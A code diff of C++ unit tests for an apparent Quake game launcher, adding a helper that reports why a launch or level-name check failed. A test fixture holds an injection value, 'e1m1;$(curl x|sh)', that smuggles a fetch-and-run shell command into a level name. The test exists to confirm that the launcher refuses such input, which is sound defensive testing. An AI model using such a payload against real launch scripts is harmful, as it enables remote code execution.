@@ -16,13 +16,16 @@ LaunchChoices Choices(std::string engine, std::string mapSelection, std::string 
           std::move(quakeDir)};
 }
 
+// Why a check failed; empty when it passed.
+std::string Why(const Result& checked) { return checked.ok() ? "" : checked.reason(); }
+
 // The message that refuses a launch; empty when the launch may go ahead.
 std::string Refusal(const LaunchChoices& choices, ScriptFlavour flavour) {
-  return CheckLaunch(choices, flavour).reason();
+  return Why(CheckLaunch(choices, flavour));
 }
 
 // Why a level name may not reach the launch script; empty when it may.
-std::string LevelProblem(const std::string& level) { return CheckLevelName(level).reason(); }
+std::string LevelProblem(const std::string& level) { return Why(CheckLevelName(level)); }
 
 TEST(EngineCommandLine, FollowsTheFixedOrderByteForByte) {
   // A GL engine with a map: the level, the modification, then the GL settings.
@@ -271,7 +274,7 @@ TEST_F(StartGameTest, TypingAnotherMapNameKeepsTheLoadedLevel) {
 }
 
 TEST_F(StartGameTest, RefusalsWriteAndStartNothing) {
-  f.dir.Write(LaunchScriptName(kNativeFlavour), "old script");
+  f.dir.Write(LaunchScriptName(NativeSystem()), "old script");
   f.dir.Write("data/evil.kvx", "e1m1;$(curl x|sh)\r\nLooks harmless.\r\n");
   f.dir.Write("data/broken.kvx", "only one line\r\n");
 
